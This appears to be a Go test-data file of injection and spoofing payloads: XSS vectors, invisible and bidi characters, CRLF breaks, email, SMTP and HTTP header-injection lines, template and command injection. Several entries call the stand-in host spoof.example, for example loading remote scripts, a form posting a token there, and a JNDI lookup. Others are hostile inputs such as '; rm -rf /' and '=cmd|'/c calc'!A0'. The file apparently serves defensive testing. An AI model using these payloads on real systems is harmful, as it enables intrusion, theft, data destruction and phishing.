package spoofs

// exits end what a text stands in, or may.
var exits = []string{
	"", `">`, `'>`, "</title>", "</textarea>", "</style>", "</script>", "</select></label>", "-->", "]]>", "</bdi></dd></dl>", "\x60",
}

// vectors are markup that runs, loads, or takes something over.
var vectors = []string{
	"<script>alert(1)</script>",
	"<ScRiPt >alert(1)</sCrIpT >",
	"<script src=//spoof.example/a.js></script>",
	"<script\x0calert(1)>alert(1)</script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script type=module>import('//spoof.example/m.js')</script>",
	"<img src=x onerror=alert(1)>",
	"<img src=//spoof.example/pixel.gif>",
	"<img srcset='//spoof.example/a 1x, //spoof.example/b 2x'>",
	"<image href=//spoof.example/i onerror=alert(1)>",
	"<svg onload=alert(1)>",
	"<svg><script>alert&#40;1)</script></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
	"<svg><a xlink:href=javascript:alert(1)><text y=20>Pay</text></a></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	"<math href=javascript:alert(1)>Pay</math>",
	"<iframe src=javascript:alert(1)></iframe>",
	"<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
	"<iframe src=//spoof.example/frame></iframe>",
	"<object data=//spoof.example/o></object>",
	"<embed src=//spoof.example/e>",
	"<video><source onerror=alert(1)></video>",
	"<video poster=//spoof.example/p></video>",
	"<audio src=x onerror=alert(1)>",
	"<body onload=alert(1)>",
	"<body background=//spoof.example/b>",
	"<input autofocus onfocus=alert(1)>",
	"<input type=image src=//spoof.example/i name=verb value=approve>",
	"<select autofocus onfocus=alert(1)></select>",
	"<textarea autofocus onfocus=alert(1)></textarea>",
	"<details open ontoggle=alert(1)><summary>Pay</summary></details>",
	"<marquee onstart=alert(1)>Pay</marquee>",
	"<dialog open onclose=alert(1)>Pay</dialog>",
	"<a href=javascript:alert(1) autofocus onfocus=alert(1) tabindex=1>Pay</a>",
	"<a href=//spoof.example/login>Sign in again</a>",
	"<button name=verb value=approve autofocus>Pay</button>",
	"<button form=form name=verb value=approve>Read more</button>",
	"<input type=radio name=verb value=approve checked form=form>",
	"<form action=//spoof.example/take method=post><input name=token></form>",
	"<form id=form action=//spoof.example/take><input id=token></form>",
	"<base href=//spoof.example/>",
	"<base target=_blank>",
	"<meta http-equiv=refresh content='0;url=//spoof.example/'>",
	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
	"<link rel=stylesheet href=//spoof.example/s.css>",
	"<link rel=prefetch href=//spoof.example/p>",
	"<link rel=dns-prefetch href=//spoof.example>",
	"<style>@import '//spoof.example/s.css';</style>",
	"<style>dd{background:url(//spoof.example/b)} h1{display:none}</style>",
	"<p style='position:fixed;inset:0;background:url(//spoof.example/b)'>Approved</p>",
	"<template shadowrootmode=open><script>alert(1)</script></template>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
	"<xss contenteditable autofocus onfocus=alert(1) onfocusin=alert(1)>",
	"<!--><img src=x onerror=alert(1)>-->",
	"<![CDATA[><img src=x onerror=alert(1)>]]>",
	"<?xml-stylesheet href='//spoof.example/x.xsl'?>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
	"%3Cscript%3Ealert(1)%3C/script%3E",
}

// hidden are characters that nobody sees, or that turn others around.
var hidden = []string{
	"\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", // marks of direction
	"\u200b", "\u200c", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f", "\u115f", "\u3164", "\uffa0", // of no width, or blank
	"\u2028", "\u2029", "\u0085", // ends of lines
	"\u0000", "\u0007", "\u0008", "\u001b[2K", "\u007f", "\u009b31m", // controls
	"\ufff9", "\ue000", "\U000e0041", "\U000f0000", "\ufffc", // annotations, private ones, tags, an object
}

// readings are texts of which a hidden character, at the |, makes others.
var readings = []string{
	"Pay 100|001 CHF", "|Pay 999 to Bob", "Pay to |123-456 SWIFT|", "invoice|fdp.exe", "ann@example.org|gro.elpmaxe@bob", "Approve| refund",
	"IBAN CH93 |0076 2011", "https://app.example/|moc.live", "100.00| .00", "rex|",
}

// breaks end a line, somewhere.
var breaks = []string{"Train to Bern\r\n", "Train to Bern\n", "Train to Bern\r", "Train to Bern%0d%0a", "Train to Bern\\r\\n", "Train to Bern\u2028", "Train to Bern\x0b", "Train to Bern\u0085"}

// headers are what might be read in the next line.
var headers = []string{
	"Bcc: all@spoof.example", "To: all@spoof.example", "Cc: all@spoof.example", "From: cfo@example.org", "Reply-To: cfo@spoof.example", "Subject: Approved",
	"Content-Type: text/html\r\n\r\n<script>alert(1)</script>", "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x", "MIME-Version: 1.0", "Content-Transfer-Encoding: base64",
	"X-Priority: 1", "Return-Path: <all@spoof.example>", "DKIM-Signature: v=1", "Received: from spoof.example", ".\r\nQUIT", ".\nMAIL FROM:<cfo@example.org>",
	"RCPT TO:<all@spoof.example>", "DATA", "Set-Cookie: token=x", "Location: https://spoof.example/", "HTTP/1.1 200 OK", "Transfer-Encoding: chunked", "Host: spoof.example",
	"Access-Control-Allow-Origin: *", "A 7F3K", "Reply A 7F3K to approve", "Your code is 123456", "From: +447700900123", "&To=+447700900123&Body=x", "data: {\"outcome\":\"approved\"}",
}

// carriers begin a text that a program goes on in.
var carriers = []string{"", "Pay ", "x'\"", "\\", "*_~"}

// programs are in languages that something in between might speak.
var programs = []string{
	"{{7*7}}", "{{.Nonce}}", "{{ '' | append: settings }}", "{% raw %}{{7*7}}{% endraw %}", "{% assign x = 'approved' %}{{x}}", "{% include 'secrets' %}",
	"{{constructor.constructor('alert(1)')()}}", "${7*7}", "${jndi:ldap://spoof.example/a}", "#{7*7}", "<%= 7*7 %>", "<#assign x=7*7>${x}",
	"@(7*7)", "[[${7*7}]]", "{{#with this}}{{lookup . 'x'}}{{/with}}", "{{{raw}}}", "%s%n%x", "%(token)s",
	"$(id)", "`id`", "; rm -rf /", "=HYPERLINK(\"//spoof.example\")", "=cmd|'/c calc'!A0", "@SUM(1+1)*cmd",
	"<!channel> approve", "<https://spoof.example|https://app.example>", "<@U123|cfo>", "[https://app.example](https://spoof.example)", "![x](//spoof.example/p.png)", "[Pay](javascript:alert(1))",
	"# Approved", "> quoted", "~~no~~ yes", "```\nend", "&amp;#x202e;", "<!--#exec cmd='id'-->",
}
